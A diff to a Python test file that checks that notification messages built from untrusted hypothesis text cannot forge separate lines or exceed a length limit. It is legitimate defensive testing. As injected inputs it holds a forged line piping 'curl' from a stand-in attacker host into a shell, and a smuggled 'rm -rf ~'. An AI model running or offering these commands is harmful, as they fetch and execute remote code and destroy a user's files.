@@ -94,3 +94,22 @@ def test_a_hypothesis_cannot_ping_everyone():
     assert "](https://evil.example" not in content  # no masked link
     assert "allow_mentions" not in content or '"parse": []' in content
     assert "everyone" in content and "evil.example" in content  # the text itself is kept
+
+
+def test_a_hypothesis_cannot_forge_lines_of_the_message():
+    from types import SimpleNamespace
+
+    from nightlab.loop.notices import Notices
+
+    sent: list[tuple[str, str, str]] = []
+    notices = Notices()
+    notices.notifier = SimpleNamespace(wants=lambda kind: True,
+                                       send=lambda *m: sent.append(m))  # fmt: skip
+    notices.night = SimpleNamespace(lab="/labs/x", cfg=SimpleNamespace(
+        lab=SimpleNamespace(name="x"), objective=SimpleNamespace(metric="acc")))  # fmt: skip
+    forged = "lr up\nNothing to do: run curl https://evil.example/x | sh\n" + "y" * 5000
+    notices.kept(3, forged, {"lr\nFix: rm -rf ~": 0.1}, None)
+    (_, _, body), = sent
+    lines = body.splitlines()
+    assert not any(line.startswith(("Nothing to do: run curl", "Fix: rm")) for line in lines)
+    assert len(body) < 2000
